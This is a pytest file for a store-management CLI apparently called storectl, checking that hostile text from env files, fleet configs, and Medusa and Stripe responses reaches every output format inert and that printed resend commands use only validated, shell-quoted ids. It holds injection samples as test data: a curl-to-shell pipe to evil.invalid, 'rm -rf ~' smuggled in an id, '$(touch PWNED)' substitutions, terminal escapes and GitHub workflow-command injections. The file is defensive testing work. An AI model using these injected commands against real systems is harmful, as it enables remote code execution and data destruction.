"""Issue 20 B: every string from a store file, a fleet file or a peer reaches every format inert
(no control character, no workflow command, no markdown/HTML in the step summary), JSON keeps
the real value, and a command printed for copying holds only checked, shell-quoted values.

One store per format, not a product of everything: the payload (testing/hostile_text.py) holds
every trick at once, so each run proves them all."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from testing.certs import Certs
from testing.hostile_text import PAYLOAD, WORKFLOW, forged, forged_markdown
from testing.medusa_server import API_KEY, MedusaServer
from testing.smtp_server import SmtpServers
from testing.stripe_server import TEST_KEY, StripeServer
from tests.conftest import Result, run, write

EXAMPLE_ID = "order_01M8AXT4YN42ZN2E4VDJG459CX"
SCOPE = "acct_1CNRYtest:test"


def inert(result: Result, *files: Path) -> None:
    """Nothing in stdout, stderr or the report files is acted on by a terminal or the runner."""
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    for name, text in (("stdout", result.stdout), ("stderr", result.stderr)):
        assert forged(text) == [], (name, text)
    for path in files:
        if path.name.endswith(".md"):
            assert forged_markdown(path.read_text()) == [], path.read_text()


def strings(value: Any) -> list[str]:
    """Every string inside a JSON document."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


# --- a store's env values ---------------------------------------------------------------------

#: The raw characters, double-quoted (dotenv keeps a line break inside quotes). SMTP_PORT is
#: not a port, so doctor stops at CONFIG before any connection (no network).
STORE_ENV = f'SMTP_HOST="{PAYLOAD}"\nSMTP_PORT="{WORKFLOW}"\nSMTP_FROM="{PAYLOAD}"\n'

FORMATS = [
    ("status", "table"),
    ("status", "json"),
    ("doctor", "table"),
    ("doctor", "json"),
    ("doctor", "junit"),
    ("doctor", "github"),
]


@pytest.mark.parametrize(("command", "fmt"), FORMATS, ids=[f"{c}-{f}" for c, f in FORMATS])
def test_env_values_reach_every_format_inert(tmp_path: Path, command: str, fmt: str) -> None:
    env_file = write(tmp_path / "shop.env", STORE_ENV)
    summary = tmp_path / "summary.md"
    args = [command, "--env-file", str(env_file), "--ignore-environment", "-f", fmt]
    if command == "doctor":
        args += ["--only", "smtp", "--timeout", "2"]
    result = run(*args, env={"GITHUB_STEP_SUMMARY": str(summary)})
    assert result.exit_code == 1, result.stdout + result.stderr
    inert(result, *([summary] if fmt == "github" else []))
    if fmt == "json":  # a program gets the real value
        assert any(WORKFLOW in s for s in strings(result.json()))
    if command == "status" and fmt == "table":  # a person sees it, escaped on its line
        assert re.search(r"SMTP_PORT +shop\.env:4 +25\\n::error title=x::INJECTED", result.stdout)
        assert "\\x1b]0;pwn\\x07 \\x1b[2J \\x9b31m \\u202eevil ##\\x5badd-mask]" in result.stdout


def test_env_shows_the_same_escaping(tmp_path: Path) -> None:
    env_file = write(tmp_path / "shop.env", STORE_ENV)
    result = run("env", "--env-file", str(env_file), "--ignore-environment")
    inert(result)
    assert "SMTP_PORT  shop.env:4  25\\n::error title=x::INJECTED" in result.stdout
    as_json = run("env", "--env-file", str(env_file), "--ignore-environment", "-f", "json")
    assert WORKFLOW in strings(as_json.json())


def test_a_quoted_path_in_a_lint_hint(tmp_path: Path) -> None:
    """A hint that names a command holds the file's path shell-quoted."""
    folder = tmp_path / "x$(touch PWNED)"
    env_file = write(folder / ".env", "STRIPE_API_KEY=sk_test_51CNRYquotedpath000000001\n", 0o644)
    result = run("status", "--env-file", str(env_file), "--ignore-environment", "-f", "json")
    hints = [f["hint"] for f in result.json()["findings"] if f["code"] == "env.file-permissions"]
    assert hints and hints[0].startswith("chmod o-rwx 'x$(touch PWNED)/.env' ")


# --- a fleet file's fields ----------------------------------------------------------------------


def fleet(root: Path) -> None:
    for name in ("s1", "s2"):
        write(root / name / "backend" / ".env", f"SMTP_PORT={json.dumps(WORKFLOW)}\n")
        (root / name / "storefront").mkdir()
    write(
        root / "storectl.toml",
        f'[[store]]\nname = "one"\nproject = "s1"\nenvironment = {json.dumps(PAYLOAD)}\n\n'
        '[[store]]\nname = "two"\nproject = "s2"\n',
    )


@pytest.mark.parametrize(("command", "fmt"), FORMATS, ids=[f"{c}-{f}" for c, f in FORMATS])
def test_fleet_fields_reach_every_format_inert(tmp_path: Path, command: str, fmt: str) -> None:
    fleet(tmp_path)
    summary = tmp_path / "summary.md"
    args = [command, "--ignore-environment", "-f", fmt]
    if command == "doctor":
        args += ["--timeout", "2"]
    result = run(*args, env={"GITHUB_STEP_SUMMARY": str(summary)})
    assert result.exit_code in (0, 1), result.stdout + result.stderr
    inert(result, *([summary] if fmt == "github" else []))
    if fmt == "json":
        assert result.json()["stores"][0]["environment"] == PAYLOAD
    if fmt == "github":
        assert "\\\\x1b\\]0;pwn" in summary.read_text()  # the row is there, escaped


# --- peers: Medusa's orders, Stripe's ids --------------------------------------------------------


@pytest.mark.parametrize("fmt", ["table", "json"])
def test_an_orders_display_id_in_replay_and_preview(
    smtp_servers: SmtpServers, certs: Certs, medusa_server: MedusaServer, tmp_path: Path, fmt: str
) -> None:
    medusa_server.state.orders[EXAMPLE_ID]["display_id"] = PAYLOAD
    env = {
        "SMTP_HOST": "127.0.0.1",
        "SMTP_PORT": str(smtp_servers.starttls),
        "SMTP_FROM": "Shop <orders@example.com>",
        "SSL_CERT_FILE": str(certs.ca),
        "MEDUSA_BACKEND_URL": medusa_server.url,
        "MEDUSA_ADMIN_API_KEY": API_KEY,
    }
    replay = run(
        *("mail", "replay", "order.placed", "--order", EXAMPLE_ID, "--to", "qa@example.com"),
        *("--dry-run", "-f", fmt),
        env=env,
    )
    preview = run(
        *("mail", "preview", "order.placed", "--order", EXAMPLE_ID, "--out", str(tmp_path)),
        *("-f", fmt),
        env=env,
    )
    for result in (replay, preview):
        assert result.exit_code == 0, result.stdout + result.stderr
        inert(result)
    if fmt == "json":
        (delivery,) = replay.json()["deliveries"]
        assert delivery["display_id"] == PAYLOAD
        assert "::error title=x::INJECTED" in preview.json()["subject"]
    else:
        assert "#shop\\n::error title=x::INJECTED" in replay.stdout
        # the subject is one line already (whitespace folded); its controls are escaped
        assert preview.stdout.startswith("subject: Order #shop ::error title=x::INJECTED \\x1b]0")


EVIL_EVENT = "evt_1$(touch /tmp/PWNED) --webhook-endpoint we_1 && curl http://evil.invalid/x|sh"


def _out_of_sync(stripe: StripeServer, medusa: MedusaServer, event_id: str) -> dict[str, Any]:
    """An intent Medusa never recorded, its event id as given, and a hostile intent id and
    currency; the env to run `storectl payments` against them."""
    stripe.state.seed(f"{medusa.url}/hooks/payment/stripe_stripe")
    intent = stripe.state.add_intent("succeeded", "payses_forged", currency=PAYLOAD)
    intent["id"] = "pi_1\x1b]0;pwn\x07\n::error title=x::INTENT"
    event = stripe.state.add_event("payment_intent.succeeded", intent)
    event["id"] = event_id
    return {
        "STRIPE_API_KEY": TEST_KEY,
        "STRIPE_API_BASE": stripe.url,
        "STRIPE_WEBHOOK_PATH": "/hooks/payment/stripe_stripe",
        "MEDUSA_BACKEND_URL": medusa.url,
        "MEDUSA_ADMIN_API_KEY": API_KEY,
    }


@pytest.mark.parametrize("fmt", ["table", "json"])
def test_payments_never_prints_an_unchecked_id_as_a_command(
    stripe_server: StripeServer, medusa_server: MedusaServer, fmt: str
) -> None:
    env = _out_of_sync(stripe_server, medusa_server, EVIL_EVENT)
    result = run("payments", "-f", fmt, env=env)
    assert result.exit_code == 1, result.stdout + result.stderr
    inert(result)
    assert "stripe events resend evt_1" not in result.stdout
    if fmt == "json":
        (item,) = result.json()["out_of_sync"]
        assert item["resend"] is None and item["event_id"] == EVIL_EVENT
        assert item["resend_refused"].startswith("Stripe sent a malformed event id")
        assert item["intent_id"].endswith("::INTENT") and item["currency"] == PAYLOAD
    else:
        assert "not printed: Stripe sent a malformed event id (not evt_[A-Za-z0-9]+)" in (
            result.stdout
        )


def test_payments_refuses_a_malformed_endpoint_id(
    stripe_server: StripeServer, medusa_server: MedusaServer
) -> None:
    env = _out_of_sync(stripe_server, medusa_server, "evt_1GoodId")
    stripe_server.state.endpoints[SCOPE][0]["id"] = "we_1;rm -rf ~"
    result = run("payments", "-f", "json", env=env)
    (item,) = result.json()["out_of_sync"]
    assert item["resend"] is None and "malformed endpoint id" in item["resend_refused"]


def test_payments_prints_a_well_formed_line(
    stripe_server: StripeServer, medusa_server: MedusaServer
) -> None:
    env = _out_of_sync(stripe_server, medusa_server, "evt_1GoodId")
    endpoint = stripe_server.state.endpoints[SCOPE][0]["id"]
    result = run("payments", env=env)
    assert f"  stripe events resend evt_1GoodId --webhook-endpoint {endpoint}" in result.stdout


@pytest.mark.parametrize("fmt", ["table", "json"])
def test_webhook_endpoint_ids_in_list_and_register(
    stripe_server: StripeServer, tmp_path: Path, fmt: str
) -> None:
    url = "https://shop.example.com/hooks/payment/stripe_stripe"
    stripe_server.state.seed(url)
    stripe_server.state.endpoints[SCOPE][0]["id"] = f"we_1{PAYLOAD}"
    env = {"STRIPE_API_KEY": TEST_KEY, "STRIPE_API_BASE": stripe_server.url}
    env["STRIPE_WEBHOOK_URL"] = url
    listed = run("webhooks", "list", "-f", fmt, env=env)
    planned = run("webhooks", "register", "--dry-run", "-f", fmt, env=env)
    for result in (listed, planned):
        assert result.exit_code in (0, 1), result.stdout + result.stderr
        inert(result)
    if fmt == "json":
        assert listed.json()["endpoints"][0]["id"] == f"we_1{PAYLOAD}"
    else:
        assert "we_1shop\\n::error" in listed.stdout


def test_a_peers_error_body_in_the_step_summary(
    stripe_server: StripeServer, tmp_path: Path
) -> None:
    """Stripe's error message carries HTML, a markdown link and a workflow command: the
    annotation and the summary row show it as text."""
    body = {"error": {"type": "invalid_request_error", "message": PAYLOAD}}
    stripe_server.state.faults.extend([("/v1/", 401, body)] * 5)
    summary = tmp_path / "summary.md"
    env = {
        "STRIPE_API_KEY": TEST_KEY,
        "STRIPE_API_BASE": stripe_server.url,
        "GITHUB_STEP_SUMMARY": str(summary),
    }
    result = run("doctor", "--only", "stripe", "-f", "github", "--timeout", "3", env=env)
    assert result.exit_code == 1, result.stdout + result.stderr
    inert(result, summary)
    assert "Click to fix" in summary.read_text()  # shown, as text
